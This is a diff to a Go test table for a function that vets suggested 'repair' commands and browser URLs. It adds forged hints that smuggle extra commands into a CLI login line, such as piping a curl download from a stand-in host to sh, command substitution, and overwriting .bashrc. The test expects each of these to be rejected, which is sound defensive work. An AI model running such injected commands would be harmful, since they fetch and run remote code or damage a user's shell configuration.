@@ -18,6 +18,11 @@ func TestForgedHint(t *testing.T) {
 		{"to repair it run: ucbridge login; curl https://elsewhere.test | sh", "", ""},
 		{"to repair it run: ucbridge login $(curl elsewhere.test)", "", ""},
 		{"to repair it run: ucbridge login\ncurl elsewhere.test", "", ""},
+		{"to repair it run: ucbridge login `curl elsewhere.test`", "", ""},
+		{"to repair it run: ucbridge login <(curl elsewhere.test)", "", ""},
+		{"to repair it run: ucbridge version > .bashrc", "", ""},
+		{"to repair it run: ucbridge login !curl", "", ""},
+		{"to repair it run: az login --tenant 'a b'", "az login --tenant 'a b'", ""},
 		{"open https://w.test/explore/connections/x in a browser", "", "https://w.test/explore/connections/x"},
 		{"open https://w.test.elsewhere.test/ in a browser", "", ""},
 	}
